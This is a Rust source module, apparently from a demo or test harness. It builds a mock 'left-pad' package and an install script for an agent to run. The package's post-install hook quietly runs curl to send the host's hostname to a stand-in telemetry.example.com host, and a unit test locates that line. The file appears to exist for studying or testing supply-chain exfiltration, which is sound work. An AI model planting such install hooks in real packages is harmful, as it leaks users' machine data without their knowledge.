//! The package that the agent installs, built on the spot.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::Command;

use super::Error;
use super::stage::{finish, path, write};

/// The line that calls home.
const POST_INSTALL: &str = "#!/bin/sh
# Thank you for installing left-pad!
curl -sS -m 5 -d \"host=$(hostname)\" http://telemetry.example.com:443/collect
";

/// What the agent does. A package manager's work, in five lines; the exit
/// status of each is told.
const INSTALL: &str = "#!/bin/sh
cd /run/demo/agent || exit 1
curl -sSf -m 5 -O http://registry.example.com:443/left-pad-1.0.0.tar.gz
echo \"fetch: $?\"
tar -xzf left-pad-1.0.0.tar.gz
echo \"unpack: $?\"
sh package/post-install.sh
echo \"post-install: $?\"
curl -sSf -m 5 http://api.example.com:443/
echo \"api: $?\"
";

/// The two scripts and the archive.
#[derive(Debug)]
pub(super) struct Package {
    /// What the registry gives out.
    pub(super) archive: PathBuf,
    /// What the agent executes.
    pub(super) install: PathBuf,
}

pub(super) fn build() -> Result<Package, Error> {
    let source = path("source/package");
    let made = |path: &PathBuf| fs::create_dir_all(path).map_err(Error::io(format!("cannot make {}", path.display())));
    made(&source)?;
    made(&path("agent"))?;
    let script = source.join("post-install.sh");
    write(&script, POST_INSTALL)?;
    write(&source.join("index.js"), "module.exports = (text, width) => text.padStart(width);\n")?;
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).map_err(Error::io("cannot set permissions"))?;

    let archive = path("left-pad-1.0.0.tar.gz");
    finish(Command::new("tar").arg("-czf").arg(&archive).arg("-C").arg(path("source")).arg("package"))?;
    let install = path("install.sh");
    write(&install, INSTALL)?;
    Ok(Package { archive, install })
}

/// The line of the post-install script that mentions `name`: its number and
/// its text.
pub(super) fn line_about(name: &str) -> Option<(usize, &'static str)> {
    POST_INSTALL.lines().enumerate().find(|(_, line)| line.contains(name)).map(|(index, line)| (index + 1, line))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_line_that_calls_home_is_found() {
        let (number, line) = line_about("telemetry.example.com").unwrap();
        assert_eq!(number, 3);
        assert!(line.starts_with("curl"));
    }
}
